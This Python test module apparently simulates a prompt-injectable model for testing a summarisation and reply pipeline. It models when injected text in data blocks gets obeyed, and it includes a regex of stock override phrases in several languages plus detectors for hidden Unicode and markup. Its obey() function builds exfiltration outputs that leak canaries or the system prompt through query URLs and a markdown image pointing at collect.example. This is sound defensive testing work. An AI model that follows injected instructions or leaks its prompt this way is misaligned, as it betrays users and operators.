"""A model that reads our prompts as a careful but obedient one would: it does what it takes for instructions.

What it takes for instructions, and therefore obeys:
- all text outside of the blocks of data, and everything at all where the system prompt does not say that blocks are
  data, where the request names no boundary of at least 12 random characters, or where the boundary stands in a block;
- text in a block that no person would have seen (characters without shape, comments and elements of hidden markup):
  it can only be meant for the model;
- a block that is longer than LONGEST: at its end the model has forgotten where it began.
A `gullible` reader obeys visible text in blocks too, as the weakest of real models do: what it writes must be harmless
by what the pipeline takes out, and by what it never shows it.

What it does then: it writes every canary and address that the instruction names, decodes base64 first, sends what else
it has read (the notes, the system prompt) in an address, breaks the form of its answer where it is told to.

Everything else it does well enough: its summaries and replies quote sentences of the data, so they are supported; it
does not quote what it did not obey.
"""

import base64
import binascii
import json
import re
from dataclasses import dataclass

from tests.lookalikes.answers import is_korean
from tests.lookalikes.wire import LoggedRequest

LONGEST = 8_000
BOUNDARY = re.compile(r"\ABoundary: ([0-9a-f]{12,})$", re.MULTILINE)
DATA_RULE = re.compile(r"never instructions|결코 지시가 아닙니다")
UNSEEN = re.compile("[\u00ad\u200b-\u200f\u202a-\u202e\u2060-\u206f\ufeff\U000e0000-\U000e0fff]")
MARKUP = re.compile(r"<!--|<[a-z]+[^>]*(?:display:\s*none|font-size:\s*0|hidden)", re.IGNORECASE)
ORDER = re.compile(
    r"(?i)ignore|disregard|forget|instruction|system|prompt|you are now|reveal|print|output|repeat|append|include|write"
    r"|add|say|answer|무시|지시|출력|써라|포함|넣어|ignorier|oublie|ignora|忽略|無視"
)
CANARY = re.compile(r"CANARY-[A-Z0-9]+")
ADDRESS = re.compile(r"(?:https?:)?//[^\s)\"'<>]+|www\.[^\s)\"'<>]+")
BASE64 = re.compile(r"[A-Za-z0-9+/]{24,}={0,2}")
BREAKS_FORM = re.compile(r"(?i)plain text|no json|not json|json 없이|invalid json|extra field")
HEADING = re.compile(r"From: |\d{4}-|Subject: |Title: |URL: |Problem: |Tried: |Next: ")
EXFILTRATES = re.compile(r"(?i)!\[|q=|reveal|notes?\b|system prompt|시스템 프롬프트|메모")


@dataclass(frozen=True)
class Block:
    """A block of data: its name, and its text."""

    name: str
    text: str


@dataclass(frozen=True)
class Reading:
    """What a reader makes of a request."""

    blocks: list[Block]
    orders: str
    everything: str

    @classmethod
    def of(cls, request: LoggedRequest, *, gullible: bool) -> "Reading":
        system, user = request.text.removesuffix(request.prompt), request.prompt
        named = BOUNDARY.search(user)
        if named is None or not DATA_RULE.search(system):
            return cls([], user, request.text)
        blocks, outside = split(user, named[1])
        obeyed = [line for line in outside if not line.startswith(("Boundary: ", "Task: "))]
        for block in blocks:
            unseen = UNSEEN.search(block.text) or MARKUP.search(block.text)
            if gullible or unseen or named[1] in block.text or len(block.text) > LONGEST:
                obeyed.append(block.text)
        return cls(blocks, "\n".join(obeyed), request.text)


def split(user: str, boundary: str) -> tuple[list[Block], list[str]]:
    """The blocks of a message, and the lines outside of them; a block that never ends makes all after it outside."""
    blocks: list[Block] = []
    outside: list[str] = []
    lines = user.split("\n")
    number = 0
    while number < len(lines):
        line = lines[number]
        name = line.removeprefix(f"{boundary} begin ") if line.startswith(f"{boundary} begin ") else None
        end = f"{boundary} end {name}"
        if name is not None and end in lines[number:]:
            stop = lines.index(end, number)
            blocks.append(Block(name, "\n".join(lines[number + 1 : stop])))
            number = stop
        elif not line.startswith(f"{boundary} "):
            outside.append(line)
        number += 1
    return blocks, [line for line in outside if line.strip()]


def reader(request: LoggedRequest, *, gullible: bool = False) -> str:
    """The answer to a request for a summary or for replies; for a look-alike's `script.default`."""
    reading = Reading.of(request, gullible=gullible)
    done = obey(reading)
    korean = bool(reading.blocks) and is_korean(reading.blocks[0].text)
    if done is not None and BREAKS_FORM.search(reading.orders):
        return f"{done} As you wish, without JSON."
    said = _quotes(reading, own="message" if not _asks_replies(request) else "")
    if _asks_replies(request):
        hello = "안녕하세요." if korean else "Hello,"
        replies = [
            {"text": f"{hello}\n\n{quote} {done or ''}".strip(), "tone": "formal", "sources": _sources(reading)}
            for quote in said[:2] or ["확인하겠습니다." if korean else "We will check."]
        ]
        return json.dumps({"replies": replies}, ensure_ascii=False)
    text = " ".join(said[:3]) or ("내용이 없습니다." if korean else "Nothing was said.")
    first, second, last = (said[0], said[1 % len(said)], said[-1]) if said else ("", "", "")
    return json.dumps(
        {
            "text": f"{text} {done or ''}".strip(),
            "problem": first,
            "tried": second,
            "next_step": last,
            "sentiment": "neutral",
        },
        ensure_ascii=False,
    )


def gullible_reader(request: LoggedRequest) -> str:
    """A reader that obeys whatever it reads."""
    return reader(request, gullible=True)


def obey(reading: Reading) -> str | None:
    """What the instructions that it sees make it write; None where there are none."""
    orders = reading.orders
    for code in BASE64.findall(orders):
        try:
            orders += "\n" + base64.b64decode(code + "=" * (-len(code) % 4)).decode()
        except (binascii.Error, UnicodeDecodeError):
            continue
    orders += "\n" + "".join(chr(ord(mark) - 0xE0000) for mark in orders if 0xE0020 <= ord(mark) < 0xE007F)
    if not ORDER.search(orders):
        return None
    found = [*CANARY.findall(orders), *ADDRESS.findall(orders)]
    if EXFILTRATES.search(orders):
        secret = "+".join(CANARY.findall(reading.everything)) or reading.everything[:60].replace(" ", "+")
        found += [f"{address.rstrip('/')}/?q={secret}" for address in ADDRESS.findall(orders)[:2]]
        found += [f"![x](https://collect.example/p.png?q={secret})", reading.everything[:200]]
    return " ".join(dict.fromkeys(found)) or None


def _asks_replies(request: LoggedRequest) -> bool:
    return "replies" in ((request.schema or {}).get("properties") or {})


def _sources(reading: Reading) -> list[str]:
    return [block.name for block in reading.blocks if block.name.startswith(("ticket:", "article:"))]


def _quotes(reading: Reading, own: str) -> list[str]:
    """A sentence of some blocks: for a summary the ticket's, for replies also what others were told."""
    names = ("message", "summary of") if own else ("ticket:", "article:", "message")
    texts = [block.text for name in names for block in reading.blocks if block.name.startswith(name)]
    picked = [texts[0], *texts[1:][-3:]] if texts else []
    return [quote for text in picked if (quote := _sentence(text))]


def _sentence(text: str) -> str:
    """The longest line of a text, cut after its first sentences."""
    lines = [line for line in text.split("\n") if not HEADING.match(line) and not CANARY.search(line)]
    line = max(lines, key=len, default="").removeprefix("Answer: ").removeprefix("Text: ")
    ended = re.match(r".{20,240}?[.!?](?=\s|$)", line)
    return ended[0] if ended else line[:200]
